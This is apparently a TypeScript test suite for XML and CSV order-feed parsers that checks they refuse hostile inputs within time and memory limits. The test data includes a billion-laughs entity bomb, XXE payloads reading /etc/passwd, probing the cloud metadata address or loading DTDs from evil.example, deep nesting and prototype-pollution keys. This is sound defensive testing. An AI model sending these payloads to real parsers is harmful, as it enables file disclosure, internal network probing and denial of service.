/**
 * Attack corpus: each input is generated here (nothing committed) and must be refused, or read,
 * in bounded time and memory with the expected outcome. Big inputs are pushed lazily in 1 MiB
 * chunks, and the test counts how much was pushed before the refusal: the parser must stop
 * near the cap instead of buffering the whole input.
 */
import { describe, expect, it } from 'vitest';
import { createCsvParser } from './csv-parser';
import { FEED_LIMITS } from './parse/common';
import { parseChunks } from './parse/outcome';
import { withDetail } from './testing/error-detail';
import { FeedParseError, type FeedErrorCode, type RawOrder, type RecordParserFactory } from './types';
import { createXmlParser } from './xml-parser';

const MIB = 1024 * 1024;
const TIME_BOUND_MS = 10_000;

/** Pushes chunks until the parser refuses; returns the error and how many characters were pushed. */
function pushUntilRefused(factory: RecordParserFactory, chunks: Iterable<string>, onOrder: (o: RawOrder) => void = () => undefined) {
  const started = performance.now();
  const parser = factory(onOrder, { kind: 'order' });
  let pushed = 0;
  let refusal: FeedParseError | undefined;
  try {
    for (const chunk of chunks) {
      pushed += chunk.length;
      parser.push(chunk);
    }
    parser.end();
  } catch (error) {
    if (!(error instanceof FeedParseError)) throw error;
    // Every refusal of an attack must also say itself in any language.
    refusal = withDetail(error);
  }
  return { refusal, pushed, ms: performance.now() - started };
}

function* lazy(head: string, body: () => string, bodyChunks: number, tail = ''): Generator<string> {
  yield head;
  for (let i = 0; i < bodyChunks; i++) yield body();
  yield tail;
}

function expectRefused(result: ReturnType<typeof pushUntilRefused>, code: FeedErrorCode, maxPushed = Number.POSITIVE_INFINITY) {
  expect(result.refusal?.code).toBe(code);
  expect(result.ms).toBeLessThan(TIME_BOUND_MS);
  expect(result.pushed).toBeLessThanOrEqual(maxPushed);
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
${Array.from({ length: 8 }, (_, i) => ` <!ENTITY lol${i + 2} "${`&lol${i + 1};`.repeat(10)}">`).join('\n')}
]>
<orders><order><id>&lol9;</id></order></orders>`;

// The time bound each test asserts is TIME_BOUND_MS; the runner's own timeout only stops a hang.
describe('feed attacks', { timeout: 60_000 }, () => {
  it('billion laughs: refused at the DOCTYPE, nothing expanded', () => {
    expectRefused(pushUntilRefused(createXmlParser, [BILLION_LAUGHS]), 'doctype');
  });

  it.each([
    ['file://', '<!DOCTYPE orders [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><orders><order><id>&xxe;</id></order></orders>'],
    ['http://', '<!DOCTYPE orders [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><orders><order><id>&xxe;</id></order></orders>'],
    ['parameter entity', '<!DOCTYPE orders [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><orders/>'],
    ['external DTD', '<?xml version="1.0"?><!DOCTYPE orders SYSTEM "http://evil.example/orders.dtd"><orders/>'],
  ])('external entities (%s): refused at the DOCTYPE', (_, text) => {
    expectRefused(pushUntilRefused(createXmlParser, [text]), 'doctype');
  });

  it('an entity reference without any declaration is malformed, not resolved', () => {
    expectRefused(pushUntilRefused(createXmlParser, ['<orders><order><id>&xxe;</id></order></orders>']), 'malformed');
  });

  it('200,000 levels of nesting: refused past the depth cap after reading a few bytes', () => {
    const open = '<orders><order>' + '<a>'.repeat(200_000);
    const chunks = Array.from({ length: Math.ceil(open.length / 65536) }, (_, i) => open.slice(i * 65536, (i + 1) * 65536));
    expectRefused(pushUntilRefused(createXmlParser, chunks), 'too-deep', 2 * 65536);
  });

  it('__proto__ / constructor / prototype element names and CSV columns pollute nothing', () => {
    const xml = `<orders><order><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor>
<id>1</id><products><product><__proto__>x</__proto__><constructor>y</constructor><id>p</id></product><__proto__/></products></order></orders>`;
    const outcome = parseChunks(createXmlParser, [xml]);
    expect('orders' in outcome && outcome.orders[0]).toMatchObject({ fields: { id: '1' }, products: [{ fields: { id: 'p' } }] });
    const csv = parseChunks(createCsvParser, ['id;__proto__;constructor;prototype;polluted\n1;{"polluted":1};x;y;z\n']);
    expect('orders' in csv && csv.orders[0]?.fields).toEqual({ id: '1' });
    for (const order of [...('orders' in outcome ? outcome.orders : []), ...('orders' in csv ? csv.orders : [])]) {
      expect(Object.getPrototypeOf(order.fields)).toBe(Object.prototype);
      expect(Object.keys(order.fields)).toEqual(['id']);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted');
  });

  it('a million numeric character references in one value: refused at the token cap', () => {
    const refs = '&#65;'.repeat(200_000); // 1 MB per chunk, 5 chunks = a million references
    expectRefused(pushUntilRefused(createXmlParser, lazy('<orders><order><id>', () => refs, 5, '</id></order></orders>')), 'token-too-large', 3 * MIB);
  });

  it('a million numeric character references spread over orders: decoded in bounded time', () => {
    const order = `<order><id>${'&#x41;'.repeat(1000)}</id></order>`;
    let count = 0;
    const result = pushUntilRefused(createXmlParser, lazy('<orders>', () => order.repeat(100), 10, '</orders>'), (o) => {
      count++;
      if (o.fields.id !== 'A'.repeat(1000)) throw new Error('wrong decoding');
    });
    expect(result.refusal).toBeUndefined();
    expect(count).toBe(1000);
    expect(result.ms).toBeLessThan(TIME_BOUND_MS);
  });

  it('a single 50 MB line of XML text: refused at the token cap, not buffered', () => {
    const mb = 'a'.repeat(MIB);
    expectRefused(pushUntilRefused(createXmlParser, lazy('<orders><order><id>', () => mb, 50)), 'token-too-large', FEED_LIMITS.maxToken + 2 * MIB);
  });

  it('a single 50 MB XML tag: refused at the token cap, not buffered', () => {
    const mb = ' a="b"'.repeat(MIB / 6);
    expectRefused(pushUntilRefused(createXmlParser, lazy('<orders><order', () => mb, 50)), 'token-too-large', FEED_LIMITS.maxToken + 2 * MIB);
  });

  it('a single 50 MB CSV line: refused at the record cap, not buffered', () => {
    const mb = 'a'.repeat(MIB);
    expectRefused(pushUntilRefused(createCsvParser, lazy('id;coupon\n1;', () => mb, 50)), 'token-too-large', FEED_LIMITS.maxCsvRecord + 2 * MIB);
    const commas = ';'.repeat(MIB);
    expectRefused(pushUntilRefused(createCsvParser, lazy('id;coupon\n1', () => commas, 50)), 'token-too-large', FEED_LIMITS.maxCsvRecord + 2 * MIB);
    const quoted = 'a""'.repeat(MIB / 3);
    expectRefused(pushUntilRefused(createCsvParser, lazy('id;coupon\n1;"', () => quoted, 50)), 'token-too-large', FEED_LIMITS.maxCsvRecord + 2 * MIB);
  });

  it('an empty file: refused as empty by both parsers', () => {
    expectRefused(pushUntilRefused(createXmlParser, []), 'empty');
    expectRefused(pushUntilRefused(createCsvParser, ['']), 'empty');
  });

  it('binary files: refused as binary by both parsers', () => {
    // What a gzip file, a PNG and random bytes look like once decoded as UTF-8.
    const decode = (bytes: number[]) => new TextDecoder().decode(new Uint8Array(bytes));
    let seed = 42;
    const randomBytes = Array.from({ length: 4096 }, () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) & 0xff);
    const samples = [
      decode([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, ...randomBytes]),
      decode([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]),
      decode(randomBytes.map((b) => (b === 0 ? 1 : b))),
    ];
    for (const sample of samples) {
      expectRefused(pushUntilRefused(createXmlParser, [sample]), 'binary');
      expectRefused(pushUntilRefused(createCsvParser, [sample]), 'binary');
    }
  });
});
